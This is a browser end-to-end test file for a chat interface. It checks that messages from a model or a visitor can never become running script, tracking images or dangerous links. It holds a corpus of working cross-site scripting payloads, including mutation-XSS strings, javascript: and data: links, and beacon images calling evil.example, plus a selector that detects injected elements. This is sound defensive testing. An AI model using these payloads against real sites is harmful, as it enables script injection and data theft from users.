import { expect, it } from '@jest/globals';
import { CHAT_DONE } from '@app/contracts/chat/chat.constants.js';
import type { Page } from 'playwright-core';
import { describeInBrowser, useJourneys } from './support/journeys.js';
import { ask, chat, message, openHome } from './support/steps.js';

/** What would run, or call home, if any of it ever became HTML, a picture or a link to anything but a web page. */
const corpus = [
  '<script>window.hostile = 1</script>',
  '<img src=x onerror="window.hostile = 1">',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload="window.hostile = 1"><animate onbegin="window.hostile = 1" attributeName="x"></svg>',
  '<iframe srcdoc="<script>parent.hostile = 1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hostile=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.hostile=1>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hostile=1>',
  '<a href="javascript:window.hostile=1">an anchor</a>',
  '[a script link](javascript:window.hostile=1)',
  '[a disguised link](  JaVaScRiPt&colon;window.hostile=1)',
  '[a data link](data:text/html,<script>opener.hostile=1</script>)',
  '[a quoted link](https://a.example/"onmouseover="window.hostile=1)',
  '![a beacon](https://evil.example/pixel.png?q=secret)',
  '![a data picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[VIDEO:"><img src=x onerror=window.hostile=1>:a broken video]',
  '[VIDEO:javascript:window.hostile=1]',
  '**<b onclick="window.hostile = 1">bold</b>** `<img src=x onerror=window.hostile=1>`',
  '```\n<script>window.hostile = 1</script>\n```',
  'https://evil.example/"onmouseover="window.hostile=1',
  'alert`1` {{constructor.constructor("window.hostile=1")()}} ${window.hostile=1}',
];

describeInBrowser('nothing that a model or a visitor writes can run (F21)', () => {
  const journeys = useJourneys();

  /** Opens a chat and watches for dialogs and reports of the content security policy. */
  const openWatched = async (setUp: (page: Page, sessionId: () => string) => Promise<void>) => {
    const page = await journeys.visit();
    const alarms: string[] = [];
    page.on('dialog', (dialog) => {
      alarms.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.exposeFunction('report', (what: string) => void alarms.push(what));
    await page.addInitScript(
      `addEventListener('securitypolicyviolation', (event) => report('policy: ' + event.violatedDirective + ' ' + event.blockedURI))`,
    );
    await openHome(page);
    await ask(page);
    await page.getByRole('button', { name: 'Show chat' }).click();
    await chat(page).waitFor();
    await setUp(page, () => new URL(page.url()).searchParams.get('session') ?? '');
    return { page, alarms };
  };

  const expectHarmless = async (page: Page, alarms: string[]) => {
    for (const readable of [
      'an anchor',
      'a script link',
      'a disguised link',
      'a data link',
      'a beacon',
      'Tutorial video available',
    ])
      await chat(page).getByText(readable).last().waitFor();
    // Whatever waits for a pointer gets one.
    for (const link of await chat(page).getByRole('link').all()) await link.hover();
    expect(await page.evaluate('window.hostile')).toBeUndefined();
    expect(alarms).toEqual([]);
    const brought =
      'script:not([src]), iframe, svg animate, math, form form, [src*="evil"], [onerror], [onload], [onclick]';
    expect(await chat(page).locator(brought).count()).toBe(0);
    const targets = await chat(page)
      .getByRole('link')
      .evaluateAll((links: { href: string; rel: string }[]) => links.map(({ href, rel }) => `${href} ${rel}`));
    for (const target of targets) expect(target).toMatch(/^https:\/\/[a-z.]+\/\S* noopener nofollow$/);
  };

  it('when it is read back from the server, from either side', async () => {
    const { page, alarms } = await openWatched(async (here, sessionId) => {
      for (const role of ['user', 'assistant'])
        for (const content of corpus)
          await journeys.site.query('insert into chat_message (session_id, role, content) values ($1, $2, $3)', [
            sessionId(),
            role,
            content,
          ]);
      await here.reload();
    });
    await expectHarmless(page, alarms);
  });

  it('when it arrives in a stream, cut anywhere', async () => {
    const { page, alarms } = await openWatched(async (here) => {
      const pieces = [...corpus.join('\n\n')].map((content) => `data: ${JSON.stringify({ content })}\n\n`);
      await here.route('**/api/chat', (route) =>
        route.fulfill({ contentType: 'text/event-stream', body: `${pieces.join('')}data: ${CHAT_DONE}\n\n` }),
      );
      await message(here).fill(corpus[0] ?? '');
      await message(here).press('Enter');
      await chat(here).getByText('alert`1`').or(chat(here).getByText('constructor')).first().waitFor();
    });
    await expectHarmless(page, alarms);
  });
});
